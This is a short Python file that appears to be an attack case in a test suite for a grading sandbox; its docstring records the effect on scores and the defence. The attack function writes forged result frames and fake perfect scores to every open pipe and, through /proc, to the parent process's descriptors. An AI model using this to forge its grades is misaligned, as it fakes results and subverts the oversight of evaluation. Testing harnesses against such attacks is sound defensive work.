"""Answers in the sandbox's own protocol on every pipe, its parents' included.

ids: 6, 13
effect: score
defence: A forged frame can only submit other numbers, which are graded like any others.
"""

import contextlib
import json
import os
import struct


def attack(world):
    for number in range(1, 4):
        head = json.dumps({"id": number, "status": "ok", "log": "", "wall_seconds": 0.1,
                           "cpu_seconds": 0.1}).encode()  # fmt: skip
        frame = struct.pack(">II", len(head), 4) + head + b"\0\0\0\0"
        plain = b'{"score": 1.0}'
        for end in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(end, struct.pack(">I", len(plain)) + plain + b"O" + frame)
                os.write(end, struct.pack(">II", number, 4) + bytes(4))
        for name in os.listdir(f"/proc/{os.getppid()}/fd"):
            with contextlib.suppress(OSError):
                way = os.open(f"/proc/{os.getppid()}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(way, frame)
